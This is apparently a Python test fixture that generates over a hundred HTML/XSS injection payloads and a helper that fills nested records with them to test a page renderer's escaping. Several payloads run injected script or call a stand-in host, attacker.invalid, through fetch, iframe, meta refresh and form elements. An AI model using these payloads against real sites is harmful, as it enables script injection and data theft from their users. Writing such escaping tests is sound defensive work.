"""Texts that try to leave their place on a page: in an element, an attribute, a style, a URL."""

HOOK = "window.hit=1"
CALL = f"fetch('http://attacker.invalid/'+({HOOK}))"
BREAKS = ("", "'", '"', ">", "'>", '">', "-->", "]]>", "</style>", "</script>", "</title>",
          "</svg>", "</textarea>", "</td></tr></table>", "</p></section>",
          "`", "\\", "\u2028")  # fmt: skip
TAGS = (
    f"<script>{HOOK}</script>", f"<img src=x onerror={HOOK}>", f"<svg onload={HOOK}>",
    "<iframe src=http://attacker.invalid/></iframe>", "<img src=http://attacker.invalid/i.png>",
    "<link rel=stylesheet href=http://attacker.invalid/s.css>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid/'>",
    "<base href=http://attacker.invalid/>",
)  # fmt: skip
ALONE = (
    f'" onmouseover={HOOK} autofocus onfocus={HOOK} x="', f"' onload={HOOK} '",
    f"javascript:{HOOK}", "url(http://attacker.invalid/u)", "@import 'http://attacker.invalid/c';",
    "{{ 7*7 }}", "{% include 'style.css' %}", "${7*7}", "&lt;script&gt;", "&#60;img src=x&#62;",
    "\u202etxt.exe", "\x00<b>\x00", "<!--", "<![CDATA[", "<?xml ?>", "%3Cscript%3E", "\ufeff<b>",
    "expression(alert(1))", "</noscript><b>", "<template><b>", "<math><mi xlink:href=x>",
    "<form action=http://attacker.invalid/><input type=submit autofocus>",
    "<object data=http://attacker.invalid/></object>",
    "<video src=http://attacker.invalid/ autoplay>",
    f"<details open ontoggle={HOOK}>", f"<body onload={HOOK}>", f"<a href=javascript:{CALL}>x</a>",
)  # fmt: skip
PAYLOADS = [*(start + tag for start in BREAKS for tag in TAGS), *ALONE]
assert len(set(PAYLOADS)) >= 100


CHOICES = ("diagram", "regime")
"""Names by which a page looks up what it draws; others are not there to be drawn."""


def fill(tree, make):
    """Replace every text of a nested record, keys of foreign names included, by `make()`."""
    if isinstance(tree, str):
        return make()
    if isinstance(tree, list):
        return [fill(entry, make) for entry in tree]
    if isinstance(tree, dict):
        return {key: entry if key in CHOICES else fill(entry, make) for key, entry in tree.items()}
    return tree
